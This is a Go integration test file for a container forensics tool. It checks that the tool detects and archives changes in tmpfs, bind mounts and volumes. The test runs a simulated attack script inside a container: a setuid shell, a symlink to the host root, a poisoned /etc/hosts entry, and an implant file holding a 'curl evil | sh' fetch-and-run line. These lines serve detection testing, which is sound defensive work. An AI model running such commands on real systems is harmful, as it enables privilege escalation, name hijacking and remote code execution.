package integration

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/containerd/containerd/v2/client"
	"github.com/containerd/containerd/v2/pkg/cio"
	"github.com/containerd/containerd/v2/pkg/oci"
	"github.com/containerd/containerd/v2/plugins"
	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"github.com/ctrforensics/ctrforensics/forensic"
	"github.com/ctrforensics/ctrforensics/forensic/bundle"
	"github.com/ctrforensics/ctrforensics/internal/testdaemon"
	"github.com/ctrforensics/ctrforensics/mountutil"
)

// The attack of issue 8 from inside a container: a setuid shell in
// /dev/shm, a symlink there to the host's root, a huge sparse file, a
// poisoned /etc/hosts, a file in /run and one in a volume.
const mountsAttack = `set -e
cp /bin/busybox /dev/shm/sh && chmod 4755 /dev/shm/sh
ln -s / /dev/shm/escape
dd if=/dev/zero of=/dev/shm/huge bs=1 count=0 seek=1099511627776 2>/dev/null
echo '203.0.113.7 registry.k8s.io' >> /etc/hosts
mkdir /run/x && echo 1 > /run/x/pid
echo 'curl evil | sh' > /data/implant.sh
echo shared > /pod-shm/x`

// The files the runtime bind-mounts, as nerdctl and the CRI plugin write
// them into a host directory.
var runtimeFiles = map[string]string{
	"hosts":       "127.0.0.1\tlocalhost\n",
	"resolv.conf": "nameserver 10.0.0.53\n",
	"hostname":    "mounts\n",
}

// mountedContainer is a container with the default spec's tmpfs mounts
// (/dev, /dev/shm, /run), the runtime's files bind-mounted from host and a
// volume at /data.
type mountedContainer struct {
	*container
	host, volume string
}

// runMountedContainer starts a mountedContainer, removed at the end of the test.
func runMountedContainer(t *testing.T, id string) *mountedContainer {
	t.Helper()
	ctx := h.ctx(t)
	host := filepath.Join(t.TempDir(), "runtime")
	volume := filepath.Join(t.TempDir(), "volume")
	for _, dir := range []string{host, volume} {
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// A host tmpfs shared into the container, as the CRI plugin shares a
	// pod's /dev/shm; unmounted after the container is removed.
	podShm := filepath.Join(t.TempDir(), "shm")
	if err := os.Mkdir(podShm, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("shm", podShm, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := unix.Unmount(podShm, unix.MNT_DETACH); err != nil {
			t.Errorf("unmount %s: %v", podShm, err)
		}
	})
	mounts := []specs.Mount{
		{Destination: "/data", Type: "bind", Source: volume, Options: []string{"rbind", "rw"}},
		{Destination: "/pod-shm", Type: "bind", Source: podShm, Options: []string{"rbind", "rw"}},
	}
	for name, content := range runtimeFiles {
		src := filepath.Join(host, name)
		if err := os.WriteFile(src, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		mounts = append(mounts, specs.Mount{Destination: "/etc/" + name, Type: "bind", Source: src, Options: []string{"rbind", "rw"}})
	}
	sort.Slice(mounts, func(i, j int) bool { return mounts[i].Destination < mounts[j].Destination })
	img := h.images["overlayfs"]
	ctr, err := h.client.NewContainer(ctx, id, client.WithImage(img), client.WithSnapshotter("overlayfs"),
		client.WithNewSnapshot(id, img), client.WithRuntime(plugins.RuntimeRuncV2, nil),
		client.WithNewSpec(oci.WithImageConfig(img), oci.WithProcessArgs("/bin/sh", "-c", "sleep 100000"), oci.WithMounts(mounts)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := testdaemon.RemoveContainer(h.ctx(t), ctr); err != nil {
			t.Errorf("remove container %s: %v", id, err)
		}
	})
	task, err := ctr.NewTask(ctx, cio.NullIO)
	if err != nil {
		t.Fatal(err)
	}
	if err := task.Start(ctx); err != nil {
		t.Fatal(err)
	}
	return &mountedContainer{container: &container{id: id, snapshotter: "overlayfs", ctr: ctr, task: task}, host: host, volume: volume}
}

// roView is a private read-only view of dir, to measure its state without
// moving an access time; it goes at the end of the test.
func roView(t *testing.T, d *mountutil.Detached, err error) string {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	return d.Root()
}

// mountsState captures the evidence outside the snapshot: every entry of
// the task's /dev/shm and /run, and the host sources of the bind mounts,
// each through a private read-only view.
func mountsState(t *testing.T, c *mountedContainer) map[string]treeState {
	t.Helper()
	pid := int(c.task.Pid())
	out := map[string]treeState{}
	for _, dest := range []string{"/dev/shm", "/run"} {
		d, err := mountutil.CloneTaskMount(pid, dest, "tmpfs")
		out[dest] = captureSparseTree(t, roView(t, d, err))
	}
	for _, dir := range []string{c.host, c.volume} {
		d, err := mountutil.CloneReadOnly(dir)
		out[dir] = captureTree(t, roView(t, d, err))
	}
	return out
}

// mergeByPath merges two lists of changes sorted by path, the first's first
// on equal paths, as diff prints them.
func mergeByPath(a, b []change) []change {
	out := append(append([]change(nil), a...), b...)
	sort.SliceStable(out, func(i, j int) bool { return out[i].Path < out[j].Path })
	return out
}

// TestMountsDiffAndCollect checks that diff and collect see the attack
// outside the snapshot, each entry with its source, that the evidence is
// unchanged, and that the bag holds the poisoned /etc/hosts.
func TestMountsDiffAndCollect(t *testing.T) {
	c := runMountedContainer(t, "mounts")
	h.attack(t, c.container, mountsAttack)
	before := mountsState(t, c)

	table := h.cli(t, "diff", c.id)
	if table.code != 0 {
		t.Fatalf("diff: exit %d: %s", table.code, table.stderr)
	}
	golden(t, "diff_mounts.golden", table.stdout)
	if want := "ctrforensics: note: tmpfs /dev/shm: /dev/shm/huge not hashed: size 1099511627776 exceeds the size limit 17179869184\n"; table.stderr != want {
		t.Errorf("diff of a running container printed notes:\n%s\nwant only\n%s", table.stderr, want)
	}

	changes := decodeChanges(t, h.mustCLI(t, "diff", "--format", "json", c.id))
	poisoned := "127.0.0.1\tlocalhost\n203.0.113.7 registry.k8s.io\n"
	want := []struct {
		path, kind, source, mount, typ, mode string
		digest                               string
	}{
		{"/dev/shm/sh", "A", "tmpfs", "/dev/shm", "file", "4755", ""},
		{"/dev/shm/escape", "A", "tmpfs", "/dev/shm", "symlink", "0777", ""},
		{"/dev/shm/huge", "A", "tmpfs", "/dev/shm", "file", "0644", ""},
		{"/run/x/pid", "A", "tmpfs", "/run", "file", "0644", sha([]byte("1\n"))},
		{"/etc/hosts", "C", "bind", "/etc/hosts", "file", "0644", sha([]byte(poisoned))},
		{"/etc/resolv.conf", "C", "bind", "/etc/resolv.conf", "file", "0644", sha([]byte(runtimeFiles["resolv.conf"]))},
		{"/etc/hostname", "C", "bind", "/etc/hostname", "file", "0644", sha([]byte(runtimeFiles["hostname"]))},
		{"/data/implant.sh", "A", "volume", "/data", "file", "0644", sha([]byte("curl evil | sh\n"))},
		{"/pod-shm/x", "A", "tmpfs", "/pod-shm", "file", "0644", sha([]byte("shared\n"))},
	}
	for _, w := range want {
		var got *change
		for i := range changes {
			if changes[i].Path == w.path && changes[i].Source == w.source {
				got = &changes[i]
			}
		}
		if got == nil {
			t.Errorf("diff JSON has no %s change %s", w.source, w.path)
			continue
		}
		if got.Kind != w.kind || got.Mount != w.mount || got.Type != w.typ || got.Mode != w.mode ||
			(w.digest != "" && (got.Digest == nil || *got.Digest != w.digest)) {
			t.Errorf("%s: got %+v, want %+v", w.path, *got, w)
		}
	}
	// The runtime's files as it wrote them (not changed since their birth)
	// are the runtime's, out of the table; the poisoned one is not.
	for p, runtime := range map[string]bool{"/etc/hosts": false, "/etc/resolv.conf": true, "/etc/hostname": true} {
		for _, e := range changes {
			if e.Path == p && e.Source == "bind" && e.Runtime != runtime {
				t.Errorf("%s: runtime %v, want %v", p, e.Runtime, runtime)
			}
		}
	}
	if all := h.mustCLI(t, "diff", "--all", c.id); !strings.Contains(all, "C /etc/resolv.conf\t[bind]\n") {
		t.Errorf("diff --all lacks the runtime's resolv.conf:\n%s", all)
	}
	if e := find(t, changes, "/dev/shm/escape"); e.LinkTarget == nil || *e.LinkTarget != "/" {
		t.Errorf("symlink to the host root: %+v", e)
	}
	if e := find(t, changes, "/dev/shm/huge"); e.Digest != nil || e.NotHashed == "" || e.Size != 1<<40 {
		t.Errorf("a 1 TiB sparse file must be reported and not hashed: %+v", e)
	}
	for _, ch := range changes {
		if strings.HasPrefix(ch.Path, "/dev/shm/escape/") {
			t.Errorf("the symlink to / was followed: %s", ch.Path)
		}
	}

	out := filepath.Join(t.TempDir(), "bag")
	res := h.cli(t, "collect", "-o", out, c.id)
	if res.code != 0 {
		t.Fatalf("collect: exit %d: %s", res.code, res.stderr)
	}
	if !strings.Contains(res.stderr, "note: volume /data: 1 entries listed with their digests; their content is not in the bag") ||
		!strings.Contains(res.stderr, "note: add --volumes to archive the content of the 1 volumes left out") {
		t.Errorf("collect without --volumes does not say what it left out:\n%s", res.stderr)
	}
	if v := h.mustCLI(t, "verify", out); !strings.Contains(v, "result:    VALID") {
		t.Errorf("verify:\n%s", v)
	}
	checkMountsBag(t, out, changes, false)
	withVolumes := filepath.Join(t.TempDir(), "bag.tar")
	h.mustCLI(t, "collect", "--volumes", "-o", withVolumes, c.id)
	checkMountsBag(t, extract(t, withVolumes), changes, true)

	after := mountsState(t, c)
	for what, b := range before {
		compareTrees(t, what, b, after[what])
	}

	// A host source replaced since the task started is not what the
	// container sees: said, not silently read instead.
	replaced := filepath.Join(c.host, "hostname.new")
	if err := os.WriteFile(replaced, []byte("other\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(replaced, filepath.Join(c.host, "hostname")); err != nil {
		t.Fatal(err)
	}
	r := h.cli(t, "diff", c.id)
	note := "ctrforensics: note: bind /etc/hostname: the host source " + filepath.Join(c.host, "hostname") +
		" is not the file the container sees (replaced on the host since the task started); read from the host source\n"
	if r.code != 0 || !strings.Contains(r.stderr, note) {
		t.Errorf("diff after the host replaced /etc/hostname's source: exit %d, stderr:\n%s", r.code, r.stderr)
	}
}

// checkMountsBag checks data/mounts of a bag against the diff.
func checkMountsBag(t *testing.T, bag string, diffJSON []change, volumes bool) {
	t.Helper()
	read := func(p string) []byte { return bagFile(t, bag, p) }
	checkBagChanges(t, bag, diffJSON)
	var mounts []forensic.Mount
	if err := json.Unmarshal(read(bundle.MountsJSON), &mounts); err != nil {
		t.Fatal(err)
	}
	byDest := map[string]forensic.Mount{}
	for _, m := range mounts {
		byDest[m.Destination] = m
	}
	hosts := byDest["/etc/hosts"]
	if hosts.Kind != forensic.SourceBind || !hosts.Writable || !strings.HasSuffix(hosts.Source, "/runtime/hosts") || hosts.Archive == "" {
		t.Fatalf("mounts.json /etc/hosts: %+v", hosts)
	}
	if e := tarEntries(t, read(hosts.Archive))["hosts"]; e.content != "127.0.0.1\tlocalhost\n203.0.113.7 registry.k8s.io\n" {
		t.Errorf("the bag's /etc/hosts holds %q, not the poisoned file", e.content)
	}
	shm := byDest["/dev/shm"]
	if shm.Kind != forensic.SourceTmpfs || !shm.Examined || shm.Archive == "" {
		t.Fatalf("mounts.json /dev/shm: %+v", shm)
	}
	entries := tarEntries(t, read(shm.Archive))
	if e := entries["sh"]; e.hdr == nil || e.hdr.Mode&0o4000 == 0 || len(e.content) == 0 {
		t.Errorf("tmpfs archive: setuid sh %+v", e.hdr)
	}
	if e := entries["escape"]; e.hdr == nil || e.hdr.Linkname != "/" {
		t.Errorf("tmpfs archive: symlink %+v", e.hdr)
	}
	if e := entries["huge"]; e.hdr == nil || len(e.content) != 0 {
		t.Errorf("tmpfs archive: the 1 TiB sparse file must be there without its content: %+v", e.hdr)
	}
	if e := tarEntries(t, read(byDest["/pod-shm"].Archive))["x"]; e.content != "shared\n" {
		t.Errorf("a host tmpfs bind-mounted (a pod's /dev/shm) must be archived as a tmpfs: %q", e.content)
	}
	if p := byDest["/proc"]; p.Examined || p.Note == "" {
		t.Errorf("mounts.json /proc: %+v", p)
	}
	data := byDest["/data"]
	if data.Kind != forensic.SourceVolume || data.Entries != 1 || (data.Archive != "") != volumes {
		t.Fatalf("mounts.json /data with volumes=%v: %+v", volumes, data)
	}
	if volumes {
		if e := tarEntries(t, read(data.Archive))["implant.sh"]; e.content != "curl evil | sh\n" {
			t.Errorf("volume archive: implant.sh %q", e.content)
		}
	}
	var acq bundle.Acquisition
	if err := json.Unmarshal(read(bundle.AcquisitionFile), &acq); err != nil {
		t.Fatal(err)
	}
	if acq.Mounts != len(mounts) || acq.MountChanges == 0 || acq.VolumesIncluded != volumes || (len(acq.VolumesNotArchived) == 0) == !volumes {
		t.Errorf("acquisition record: mounts %d, mount changes %d, volumes %v %v", acq.Mounts, acq.MountChanges, acq.VolumesIncluded, acq.VolumesNotArchived)
	}
}

// TestMountsStoppedContainer checks that a container without a running task
// still shows its runtime files and volume, and says that its tmpfs content
// died with the task.
func TestMountsStoppedContainer(t *testing.T) {
	c := runMountedContainer(t, "mounts-stopped")
	h.attack(t, c.container, mountsAttack)
	if err := testdaemon.StopContainer(h.ctx(t), c.ctr); err != nil {
		t.Fatal(err)
	}
	r := h.cli(t, "diff", c.id)
	if r.code != 0 {
		t.Fatalf("diff: exit %d: %s", r.code, r.stderr)
	}
	note := "ctrforensics: note: tmpfs /dev, /dev/shm, /run: not examined: the container has no running task, and a tmpfs's content dies with its task\n"
	if r.stderr != note {
		t.Errorf("diff stderr:\n%s\nwant\n%s", r.stderr, note)
	}
	// The host's files and tmpfs outlive the task; the task's own tmpfs
	// mounts do not.
	want := "A /data/implant.sh\t[volume]\nC /etc/hosts\t[bind]\nA /pod-shm/x\t[tmpfs]\n"
	if r.stdout != want {
		t.Errorf("diff of the stopped container:\n%s\nwant\n%s", r.stdout, want)
	}
	out := filepath.Join(t.TempDir(), "bag")
	h.mustCLI(t, "collect", "-o", out, c.id)
	var acq bundle.Acquisition
	b, err := os.ReadFile(filepath.Join(out, bundle.AcquisitionFile))
	if err != nil || json.Unmarshal(b, &acq) != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(acq.Notes, "\n"), "tmpfs /dev, /dev/shm, /run: not examined: the container has no running task") {
		t.Errorf("acquisition notes lack the tmpfs note: %q", acq.Notes)
	}
}

// captureSparseTree is captureTree for a tree holding a file too large to
// read (a 1 TiB sparse file): such a file's content is left out, its
// metadata and times kept.
func captureSparseTree(t *testing.T, root string) treeState {
	t.Helper()
	st := treeState{}
	var walk func(dirfd int, dir string)
	walk = func(dirfd int, dir string) {
		for _, name := range dirNames(t, dirfd) {
			var s unix.Stat_t
			if err := unix.Fstatat(dirfd, name, &s, unix.AT_SYMLINK_NOFOLLOW); err != nil {
				t.Fatal(err)
			}
			p := dir + "/" + name
			switch {
			case s.Mode&unix.S_IFMT == unix.S_IFREG && s.Size > 64<<20:
				st[p] = fmt.Sprintf("mode=%o size=%d blocks=%d mtime=%d.%d atime=%d.%d ctime=%d.%d", s.Mode, s.Size, s.Blocks,
					s.Mtim.Sec, s.Mtim.Nsec, s.Atim.Sec, s.Atim.Nsec, s.Ctim.Sec, s.Ctim.Nsec)
			default:
				st[p] = entryState(t, dirfd, name)
			}
			if s.Mode&unix.S_IFMT == unix.S_IFDIR {
				sub, err := unix.Openat(dirfd, name, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_NOFOLLOW|unix.O_NOATIME|unix.O_CLOEXEC, 0)
				if err != nil {
					t.Fatal(err)
				}
				walk(sub, p)
				unix.Close(sub)
			}
		}
	}
	fd, err := unix.Open(root, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_NOATIME|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	st["/"] = entryState(t, fd, ".")
	walk(fd, "")
	return st
}
